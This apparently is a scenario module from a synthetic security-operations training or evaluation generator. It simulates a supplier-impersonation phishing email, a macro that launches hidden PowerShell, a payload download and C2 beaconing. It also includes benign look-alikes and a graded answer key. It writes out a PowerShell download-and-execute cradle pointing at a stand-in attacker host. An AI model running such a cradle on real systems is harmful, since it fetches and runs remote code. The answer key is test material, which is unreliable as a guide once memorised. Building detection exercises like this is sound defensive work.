// Scenario: a supplier-impersonation e-mail carries a macro document; the macro starts hidden
// PowerShell that downloads a payload, which then beacons to the attacker's server. Seen
// consistently in the mail gateway, Sysmon, Security 4688, PowerShell 4104, DNS, firewall and proxy.
// Look-alikes: a genuine supplier's macro workbook, and an admin downloading Sysinternals with PowerShell.
import { IMAGES, sha256For } from '../core/binaries.js';
import { MINUTE } from '../core/events.js';
import { USER_AGENTS } from '../core/internet.js';
import { launch } from '../activity/process.js';
import { webRequest } from '../activity/web.js';
import { mailLog } from '../sources/mail.js';
import { fileCreate } from '../sources/sysmon.js';
import { scriptBlock } from '../sources/powershell.js';
import { adminSysinternalsDownload, avHashLookups, supplierMacroMail } from './lookalikes.js';
import { ACTIONS, Story } from './story.js';
import { at, encodePowerShell, pickSession } from './common.js';
import type { Scenario } from './types.js';

const DOMAIN = 'fleetparts-direct.co';
const STAGE_HOST = `cdn.${DOMAIN}`;
const C2_IP = '203.0.113.45';
const SENDER = `accounts@${DOMAIN}`;
const ATTACHMENT = 'FPD-20931_overdue_invoice.docm';
const PAYLOAD = 'fpdsync.exe';

export const phishingMacroBeacon: Scenario = {
  id: 'phishing-macro-beacon',
  version: '1.0.0',
  title: 'Overdue invoice: macro attachment to PowerShell download and beacon',
  summary: 'A look-alike supplier e-mails a macro invoice; Finance opens it, PowerShell fetches a payload that beacons out.',
  difficulty: 'easy',
  techniques: ['T1566.001', 'T1204.002', 'T1059.001', 'T1027', 'T1105', 'T1071.001'],
  start: '2026-03-10T00:00:00Z',
  hours: 24,
  build(ctx, sessions) {
    const { org, rng, world } = ctx;
    const s = new Story(org);
    const day = ctx.start;
    const tMail = at(day, 10, 12, 31);
    const victim = pickSession(rng, sessions, tMail + 20 * MINUTE, (u) => u.department === 'Finance');
    const others = sessions.filter((x) => x.user.department === 'Finance' && x.user !== victim.user).slice(0, 2).map((x) => x.user);
    s.involve(victim.user, ...others);
    const st = world.state(victim.host);
    const attSha = sha256For(ATTACHMENT, 'phish').toLowerCase();

    // 1. The phishing mail, to the victim and two colleagues.
    [victim.user, ...others].forEach((u, i) => {
      s.add(mailLog(org.mailGateway, tMail + i * 900, {
        messageId: `<${rng.hex(20)}@mail.${DOMAIN}>`, direction: 'inbound', sender: SENDER, senderIp: '203.0.113.17',
        replyTo: `payments@${DOMAIN}`, recipient: u.email, subject: 'Overdue invoice FPD-20931 - final reminder before suspension',
        spf: 'softfail', dkim: 'none', dmarc: 'fail', action: 'delivered', spamScore: 4,
        attachments: [{ name: ATTACHMENT, sha256: attSha, size: 48213 }],
      }), `mail-${i}`);
      s.alert('mail_macro_attachment', `mail-${i}`, 'true_positive',
        `Phishing: ${SENDER} (DMARC fail, look-alike of the real supplier fleetparts-direct.com) sent ${ATTACHMENT} to ${u.email}.`);
    });

    // 2. The victim opens it: Outlook saves the attachment, Word opens it.
    const tOpen = at(day, 10, 31, 4);
    const outlook = victim.apps.find((p) => p.image === IMAGES.outlook) ?? victim.explorer;
    const cachePath = `C:\\Users\\${victim.user.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${rng.hex(8).toUpperCase()}\\${ATTACHMENT}`;
    s.add(fileCreate(outlook, tOpen, cachePath), 'attachment-saved');
    const word = st.spawn(outlook, IMAGES.winword, `"${IMAGES.winword}" /n "${cachePath}" /o ""`, tOpen + 1200);
    launch(ctx, word, tOpen + 1200, s.emit, { key: 'word-open' });

    // 3. The macro starts hidden, encoded PowerShell.
    const cradle = `IEX (New-Object Net.WebClient).DownloadString('https://${STAGE_HOST}/update/sync.ps1')`;
    const tPs = tOpen + 14_300;
    const ps = st.spawn(word, IMAGES.powershell, `powershell.exe -nop -w hidden -enc ${encodePowerShell(cradle)}`, tPs);
    launch(ctx, ps, tPs, s.emit, { key: 'ps-macro' });
    s.alert('office_spawns_shell', 'ps-macro', 'true_positive', 'WINWORD.EXE started PowerShell: the macro of the phishing document ran.', { withSecurity: true });
    s.alert('powershell_encoded_command', 'ps-macro', 'true_positive', 'Hidden PowerShell with an encoded command started by Word; it decodes to a download cradle.', { withSecurity: true });
    s.add(scriptBlock(ps, tPs + 900, rng, cradle), 'ps-scriptblock');
    s.alert('ps_script_web_download', 'ps-scriptblock', 'true_positive', `The decoded script block downloads and runs https://${STAGE_HOST}/update/sync.ps1.`);

    // 4. Download of the stage and of the payload.
    webRequest(ctx, ps, tPs + 1500, { domain: STAGE_HOST, dstIp: C2_IP, path: '/update/sync.ps1', userAgent: USER_AGENTS.powershell,
      bytesIn: 5120, contentType: 'text/plain', category: 'Uncategorized' }, s.emit, 'stage');
    s.alert('proxy_powershell_useragent', 'stage:proxy', 'true_positive', `PowerShell fetched the stage script from ${STAGE_HOST} (${C2_IP}).`);
    webRequest(ctx, ps, tPs + 4200, { domain: STAGE_HOST, dstIp: C2_IP, path: `/update/${PAYLOAD}`, userAgent: USER_AGENTS.powershell,
      bytesIn: 286720, contentType: 'application/octet-stream', category: 'Uncategorized', resolve: false, connect: false }, s.emit, 'payload');
    s.alert('proxy_powershell_useragent', 'payload:proxy', 'true_positive', `PowerShell downloaded ${PAYLOAD} from ${STAGE_HOST}.`);
    const payloadPath = `C:\\Users\\${victim.user.sam}\\AppData\\Roaming\\Microsoft\\Windows\\${PAYLOAD}`;
    s.add(fileCreate(ps, tPs + 5100, payloadPath), 'payload-written');
    const implant = st.spawn(ps, payloadPath, `"${payloadPath}" --silent`, tPs + 6000, { contentLabel: 'implant' });
    launch(ctx, implant, tPs + 6000, s.emit, { key: 'implant-start' });
    const payloadSha = sha256For(payloadPath, 'implant');

    // 5. Beacon: every ~60 s, with jitter, until the end of the working day.
    let t = tPs + 20_000;
    let n = 0;
    while (t < at(day, 17, 45)) {
      webRequest(ctx, implant, t, { domain: STAGE_HOST, dstIp: C2_IP, path: '/api/v2/sync', method: 'POST',
        userAgent: USER_AGENTS.chrome, bytesOut: rng.int(300, 420), bytesIn: rng.int(120, 260), contentType: 'application/json',
        category: 'Uncategorized', resolve: n % 30 === 0, connect: n % 5 === 0 }, s.emit, n === 0 ? 'beacon-first' : undefined);
      t += 45_000 + rng.int(0, 30_000);
      n++;
    }

    // Look-alikes: a genuine supplier's macro workbook; an admin downloading Sysinternals with PowerShell.
    supplierMacroMail(ctx, s, sessions, at(day, 9, 4, 12));
    adminSysinternalsDownload(ctx, s, sessions, at(day, 14, 22, 40));
    avHashLookups(ctx, s, at(day, 10, 12, 50), 1);

    // The model answer.
    const v = victim.user;
    s.verdictAndSeverity('true_positive', 'high', 'True positive: a phishing macro compromised a Finance workstation, which now beacons to the attacker.');
    s.host('host-victim', 8, victim.host, `Patient zero: ${victim.host.name} (${victim.host.ip}).`);
    s.user('user-victim', 6, v, `${v.sam} (${v.displayName}, Finance) opened the attachment.`);
    s.indicator('ioc-sender', 4, 'email', [SENDER], 'Phishing sender address (look-alike of the real supplier fleetparts-direct.com).');
    s.indicator('ioc-domain', 5, 'domain', [DOMAIN, STAGE_HOST], 'Attacker domain used for mail, staging and C2.');
    s.indicator('ioc-ip', 5, 'ip', [C2_IP], 'Staging and C2 server address.');
    s.indicator('ioc-url', 3, 'url', [`https://${STAGE_HOST}/update/sync.ps1`, `https://${STAGE_HOST}/update/${PAYLOAD}`, `https://${STAGE_HOST}/api/v2/sync`], 'Stage, payload and beacon URLs.');
    s.indicator('ioc-attachment', 3, 'file', [ATTACHMENT], 'The malicious attachment.');
    s.indicator('ioc-attachment-hash', 2, 'hash', [attSha], 'SHA-256 of the attachment (mail gateway).');
    s.indicator('ioc-payload', 3, 'file', [PAYLOAD, payloadPath], 'The downloaded implant.');
    s.indicator('ioc-payload-hash', 2, 'hash', [payloadSha, payloadSha.toLowerCase()], 'SHA-256 of the implant (Sysmon Hashes).');
    s.technique('T1566.001', 3, 'Spearphishing attachment.', ['T1204.002']);
    s.technique('T1059.001', 3, 'PowerShell.');
    s.technique('T1105', 2, 'Ingress tool transfer (payload download).');
    s.technique('T1071.001', 2, 'C2 over HTTPS (web protocols).');
    s.timeline('tl-mail', 3, tMail, `Phishing mail from ${SENDER} delivered to ${v.email} and two colleagues.`, [['mail', 'email', 'e-mail', 'phishing', 'delivered', 'received']]);
    s.timeline('tl-macro', 3, tPs, `${v.sam} opened ${ATTACHMENT}; Word started hidden encoded PowerShell.`, [['macro', 'powershell', 'word', 'winword', 'opened', 'docm']]);
    s.timeline('tl-download', 3, tPs + 4200, `PowerShell downloaded ${PAYLOAD} from ${STAGE_HOST} and started it.`, [['download', 'downloaded', 'payload', PAYLOAD, 'stage']]);
    s.timeline('tl-beacon', 3, tPs + 20_000, `${PAYLOAD} began beaconing to ${STAGE_HOST} (${C2_IP}) about once a minute.`, [['beacon', 'beaconing', 'c2', 'command and control', 'callback', C2_IP]]);
    s.action('act-isolate', 5, `Isolate ${victim.host.name}.`, ACTIONS.isolate([victim.host.name.toLowerCase(), 'host', 'workstation', 'machine', 'endpoint']));
    s.action('act-block', 3, `Block ${DOMAIN} and ${C2_IP} at the proxy and firewall.`, ACTIONS.block([DOMAIN, STAGE_HOST, C2_IP, 'domain', 'ip', 'c2', 'ioc', 'iocs']));
    s.action('act-reset', 3, `Reset ${v.sam}'s password and revoke sessions.`, ACTIONS.reset);
    s.action('act-purge', 3, 'Purge the phishing mail from the other recipients\' mailboxes.', [['purge', 'remove', 'delete', 'recall', 'pull'], ['mail', 'email', 'e-mail', 'message', 'mailbox', 'mailboxes']]);
    return {
      events: s.events, verdict: 'true_positive', severity: 'high', alerts: s.alerts, facts: s.facts, forbidden: s.forbidden,
      summary: `${v.sam} on ${victim.host.name} opened ${ATTACHMENT} from ${SENDER} (a look-alike of supplier fleetparts-direct.com, DMARC fail). `
        + `The macro ran hidden encoded PowerShell that downloaded ${PAYLOAD} from ${STAGE_HOST} (${C2_IP}); the implant then beaconed to it about once a minute. `
        + `Isolate ${victim.host.name}, block ${DOMAIN} and ${C2_IP}, reset ${v.sam}'s credentials and purge the mail from the two other recipients. `
        + 'The BrightFreight macro workbook and the IT admin\'s Sysinternals download are benign; the mail gateway\'s long sophosxl.net DNS query is an anti-virus lookup (false positive).',
    };
  },
};

